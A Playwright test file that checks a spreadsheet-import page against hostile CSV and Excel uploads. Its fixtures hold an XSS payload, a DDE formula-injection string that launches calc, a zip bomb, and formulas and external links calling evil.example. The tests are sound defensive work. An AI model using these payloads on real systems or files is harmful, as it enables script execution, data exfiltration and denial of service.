import { truncateSync, writeFileSync } from "node:fs";
import type { Page, TestInfo } from "@playwright/test";
import { sheetRow, workbookFile, zipFile } from "#lib/client/table-file/testing/zip-file.ts";
import { people } from "./fixtures/seed.ts";
import { expect, signIn, test } from "./fixtures/test.ts";

// The reading of every kind of file is tested beside the code
// (lib/client/table-file/hostile-tables.test.ts). Here a page reads the files that can harm a page. It must
// name the error, continue to work, and neither run nor fetch anything.

type Hostile = [name: string, content: Buffer | string, says: string];

const million = 1_000_000;
const head = "Konto;Bezeichnung\n";
const header = sheetRow(1, "Konto", "Bezeichnung");

/** A workbook whose entry unpacks to 450 MB but declares a size of 0. */
const bomb = () =>
  zipFile([
    { name: "[Content_Types].xml", content: "<Types/>" },
    { name: "_rels/.rels", content: Buffer.alloc(450 * 1024 * 1024), declared: 0 },
  ]);

const refused = (): Hostile[] => [
  ["page.csv", "<!doctype html><table><tr><td>1000</table>", "This is a web page, not a table"],
  ["million columns.csv", `${";".repeat(million)}\n1000;Kasse\n`, "A row has more than 16,384 columns"],
  ["too many rows.csv", "1;a\n".repeat(1_001_000), "The file has more than a million rows"],
  ["damaged.xlsx", bomb().subarray(0, 1000), "The workbook is damaged"],
  ["bomb.xlsx", bomb(), "The workbook is too large when it is unpacked"],
];

const formula = `${header}<row r="2"><c r="A2"><f>WEBSERVICE("https://evil.example")</f><v>4711</v></c><c r="B2" t="inlineStr"><is><t>Kasse</t></is></c></row>`;

const read: Hostile[] = [
  ["script.csv", `${head}1000;<img src=x onerror=alert(1)>\n`, "<img src=x onerror=alert(1)>"],
  ["formulas.csv", `${head}=1+1;"=cmd|' /C calc'!A0"\n`, "=cmd|' /C calc'!A0"],
  ["bidi.csv", `${head}10\u202e00;Kasse\n`, "Account code: invisible or unreadable characters in 1 row"],
  ["formulas.xlsx", workbookFile(formula), "4711"],
  [
    "external.xlsx",
    workbookFile(header + sheetRow(2, "1000", "Kasse"), [
      {
        name: "xl/externalLinks/_rels/externalLink1.xml.rels",
        content:
          '<Relationships><Relationship Id="rId1" Type="x" Target="https://evil.example/a.xlsx" TargetMode="External"/></Relationships>',
      },
    ]),
    "Kasse",
  ],
];

const choose = (page: Page, file: string | { name: string; mimeType: string; buffer: Buffer }) =>
  page.locator("input[type=file]").setInputFiles(file);

/** Proves that the page still works: reads a good file and returns to the file choice. */
async function readsTheNext(page: Page): Promise<void> {
  await choose(page, {
    name: "good.csv",
    mimeType: "text/csv",
    buffer: Buffer.from(`${head}1000;Alles gut\n`),
  });
  await expect(page.getByRole("gridcell", { name: "Alles gut", exact: true })).toBeVisible();
  await page.getByRole("button", { name: "Choose another file", exact: true }).click();
  await expect(page.getByText("Drop a CSV or Excel file here", { exact: true })).toBeVisible();
}

async function open(page: Page): Promise<void> {
  await signIn(page, people.defender);
  await page.goto("/organizations/bollwerk-gmbh/imports/new");
}

/** Writes a large file and returns its path, because Playwright passes at most 50 MB without a file. */
function largeFile(info: TestInfo, name: string, bytes: number, content: Buffer): string {
  const path = info.outputPath(name);
  writeFileSync(path, content);
  truncateSync(path, bytes);
  return path;
}

test("what is no table says what it is, and the page goes on", async ({ page }) => {
  await open(page);
  for (const [name, content, says] of refused()) {
    await test.step(name, async () => {
      await choose(page, { name, mimeType: "text/csv", buffer: Buffer.from(content) });
      // Unpacking the maximum size of a workbook takes time on a busy machine.
      await expect(page.getByRole("main").getByRole("alert")).toContainText(says, { timeout: 60_000 });
      await readsTheNext(page);
    });
  }
});

test("files too large for a row or at all say so", async ({ page }, info) => {
  await open(page);
  const cell = Buffer.alloc(100 * million, "x");
  for (const [file, says] of [
    [largeFile(info, "one cell.csv", cell.length, cell), "A row is longer than a million characters"],
    [
      largeFile(info, "too large.csv", 101 * 1024 * 1024, Buffer.from(head)),
      "The file is larger than can be read",
    ],
  ] as const) {
    await choose(page, file);
    await expect(page.getByRole("main").getByRole("alert")).toContainText(says);
    await readsTheNext(page);
  }
});

test("hostile tables are read as they are, or say what is wrong with which row", async ({ page }) => {
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  page.on("dialog", (dialog) => asked.push(dialog.message()));
  await open(page);
  for (const [name, content, says] of read) {
    await test.step(name, async () => {
      await choose(page, { name, mimeType: "text/csv", buffer: Buffer.from(content) });
      await expect(page.getByRole("main")).toContainText(says);
      await page.getByRole("button", { name: "Choose another file", exact: true }).click();
      await readsTheNext(page);
    });
  }
  expect(asked.filter((address) => !address.includes("localhost") && !address.includes("127.0.0.1"))).toEqual(
    [],
  );
});
